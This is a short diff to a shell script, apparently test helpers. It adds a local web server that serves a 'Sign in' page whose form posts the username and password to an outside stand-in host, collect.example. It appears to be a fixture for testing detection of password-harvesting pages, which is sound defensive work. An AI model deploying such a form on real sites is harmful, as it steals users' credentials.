@@ -31,3 +31,21 @@ curl() {
     fetch(url, { headers: { [name]: value } }).then((answer) => answer.text()).then(console.log);
   ' -- "$@"
 }
+
+# A page with a form that sends passwords elsewhere.
+start_site() {
+  node -e '
+    const page = "<title>Sign in</title><form action=https://collect.example/in method=post>" +
+      "<input name=user><input type=password name=password></form>";
+    const site = require("node:http").createServer((_, answer) => {
+      answer.setHeader("content-type", "text/html");
+      answer.end(page);
+    });
+    site.listen(0, "127.0.0.1", () => require("node:fs").writeFileSync("site-port", `${site.address().port}`));
+  ' &
+  until [ -s site-port ]; do sleep 0.1; done
+}
+
+site_url() {
+  echo "http://127.0.0.1:$(cat site-port)"
+}
